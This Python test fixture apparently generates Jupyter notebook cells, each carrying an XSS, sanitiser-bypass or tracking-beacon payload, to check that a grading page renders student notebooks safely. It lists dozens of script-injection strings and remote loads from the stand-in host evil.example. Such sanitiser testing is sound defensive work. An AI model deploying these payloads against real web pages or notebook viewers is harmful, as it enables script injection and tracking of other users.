"""Ways in which a notebook may try to run a script on the page that shows it, or to call home."""

from __future__ import annotations

import base64
from collections.abc import Iterator

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
LIVE_SVG = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="evil()"/>').decode()

# Each stands on its own in Markdown, in an HTML output and in an SVG output.
MARKUP = [
    "<script>evil()</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<script type="module">import "https://evil.example/x.js"</script>',
    '<script type="text/x-mathjax-config">evil()</script>',
    '<script type="math/tex">\\href{javascript:evil()}{x}</script>',
    "<img src=x onerror=evil()>",
    "<img/src=x/onerror=evil()>",
    '<img src="x" OnError = "evil()">',
    '<p onmouseover="evil()" style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
    "<details ontoggle=evil() open><summary>x</summary></details>",
    "<body onload=evil()>",
    "<svg onload=evil()>",
    "<svg><script>evil()</script></svg>",
    "<svg><script xlink:href=https://evil.example/x.js /></svg>",
    '<svg><a xlink:href="javascript:evil()"><text y="9">x</text></a></svg>',
    '<svg><a><animate attributeName=href values="javascript:evil()" /><text y="9">x</text></a></svg>',
    "<svg><set attributeName=onmouseover to=evil() /></svg>",
    "<svg><foreignObject><iframe src=javascript:evil()></iframe></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml;base64,' + LIVE_SVG + '#x"/></svg>',
    '<svg><image href="https://evil.example/beacon"/></svg>',
    '<svg><rect fill="url(https://evil.example/beacon)"/></svg>',
    "<svg><style><img src=x onerror=evil()></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=evil()&gt;">',
    '<math href="javascript:evil()">x</math>',
    '<a href="javascript:evil()">x</a>',
    '<a href="JaVaScRiPt&colon;evil()">x</a>',
    '<a href="&#106;avascript&#58;evil()">x</a>',
    '<a href="java\tscript:evil()">x</a>',
    '<a href="\x01javascript:evil()">x</a>',
    '<a href="data:text/html,<script>evil()</script>">x</a>',
    '<a href="vbscript:evil()">x</a>',
    '<a href="/formgrader/manage_students">x</a>',
    '<a href="evil.html">x</a>',
    '<a href="//evil.example">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>evil()</script>"></iframe>',
    '<object data="https://evil.example"></object>',
    '<embed src="https://evil.example">',
    '<form action="https://evil.example"><input name="x" autofocus onfocus=evil()><button>Go</button></form>',
    '<button formaction="javascript:evil()">x</button>',
    "<textarea></textarea><select><option>x</option></select>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body { background: url(https://evil.example/beacon) }</style>",
    '<p style="background:url(https://evil.example/beacon)">x</p>',
    '<p style="background-color:u\\72l(https://evil.example/beacon)">x</p>',
    "<p style=\"color:red;background-image:image-set('https://evil.example/beacon' 1x)\">x</p>",
    '<img src="https://evil.example/beacon.png">',
    '<img srcset="https://evil.example/beacon.png 1x" src="x">',
    '<img src="data:image/svg+xml;base64,' + LIVE_SVG + '">',
    '<video src="https://evil.example/x.mp4" autoplay></video><audio src="https://evil.example/x.mp3"></audio>',
    '<table background="https://evil.example/beacon"><tr><td>x</td></tr></table>',
    '<noscript><p title="</noscript><img src=x onerror=evil()>"></noscript>',
    '<textarea><p title="</textarea><img src=x onerror=evil()>"></textarea>',
    '<title><p title="</title><img src=x onerror=evil()>"></title>',
    '<template><script>evil()</script></template><xmp><p title="</xmp><img src=x onerror=evil()>"></xmp>',
    "<!--><img src=x onerror=evil()>-->",
    "<![CDATA[><img src=x onerror=evil()>]]>",
    "</div></div></div></div></body><script>evil()</script>",
    '<a class="full-credit" id="check_double" data-toggle="tooltip" data-html="true" title="<img>">x</a>',
    '<span data-link="../../../evil">x</span>',
]

# Harmless as it stands; alive if a sanitiser removes a part of it, or if what nbconvert escapes were not.
DORMANT = [
    "<scr<script>ipt>evil()</scr</script>ipt>",
    "<im<!-- -->g src=x onerror=evil()>",
    "&lt;script&gt;evil()&lt;/script&gt;",
    '```"><script>evil()</script>\nx\n```',
    "$x<img src=x onerror=evil()>$",
    "$$\n<script>evil()</script>\n$$",
    "\\begin{x}<img src=x onerror=evil()>\\end{x}",
]

# What Markdown itself may be made to say.
MARKDOWN = [
    "[x](javascript:evil())",
    "[x](data:text/html;base64,PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4=)",
    "![x](https://evil.example/beacon.png)",
    '![x](x"onerror="evil())',
    "![x](attachment:live.svg)",
    "![x](attachment:live.html)",
    "![x](attachment:quote.png)",
    "<javascript:evil()>",
    "```mermaid\n<img src=x onerror=evil()>\n```",
    "# <img src=x onerror=evil()>",
    "| a |\n|---|\n| <img src=x onerror=evil()> |",
    "> <iframe src=https://evil.example></iframe>",
    "[x]: javascript:evil()\n[x]",
]
ATTACHMENTS = {
    "live.svg": {"image/svg+xml": LIVE_SVG},
    "live.html": {"text/html": "PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4="},
    "quote.png": {"image/png": '"><script>evil()</script>'},
}


def output(kind: str, data: object, metadata: dict | None = None) -> NotebookNode:
    return new_output("display_data", {kind: data}, metadata=metadata or {})


def shows(*outputs: NotebookNode) -> NotebookNode:
    return new_code_cell("show()", outputs=list(outputs))


def cells() -> Iterator[NotebookNode]:
    """One cell for each attack in each place where a page shows what a student wrote."""
    for text in [*MARKUP, *DORMANT, *MARKDOWN]:
        yield new_markdown_cell(text, attachments=ATTACHMENTS)
        yield shows(output("text/markdown", text))
    for text in [*MARKUP, *DORMANT]:
        yield shows(output("text/html", text))
        yield shows(output("text/html", text, {"text/html": {"isolated": True}}))
        yield shows(output("image/svg+xml", text))
        yield shows(output("text/latex", text), output("text/plain", text))
        yield shows(new_output("stream", name="stdout", text=text))
        yield shows(new_output("error", ename=text, evalue=text, traceback=[text]))
        yield new_code_cell(text)
        yield from (new_raw_cell(text, metadata=metadata) for metadata in RAW)
    yield from _odd_cells()


RAW = [{}, {"raw_mimetype": "text/html"}, {"format": "text/html"}]


def _odd_cells() -> Iterator[NotebookNode]:
    yield shows(output("application/javascript", "evil()"))
    yield shows(output("application/vnd.jupyter.widget-view+json", {"model_id": "x"}))
    yield shows(output("text/vnd.mermaid", "<img src=x onerror=evil()>"))
    yield shows(output("application/x-evil", "<script>evil()</script>"))
    yield shows(output("application/pdf", "<script>evil()</script>"))
    yield shows(output("image/png", '"><script>evil()</script>'))
    size = {"width": '1 onerror="evil()"', "height": "1 onload=evil()"}
    yield shows(output("image/png", PNG, {"image/png": size}))
    yield shows(output("image/png", PNG, {"filenames": {"image/png": "https://evil.example/beacon.png"}}))
    yield new_code_cell("x", metadata={"tags": ['"><script>evil()</script>', "' onclick='evil()"]})
    yield new_markdown_cell("x", metadata={"tags": ['"><script>evil()</script>']})


WIDGETS = {"application/vnd.jupyter.widget-state+json": {"x": "</script><script>evil()</script>"}}
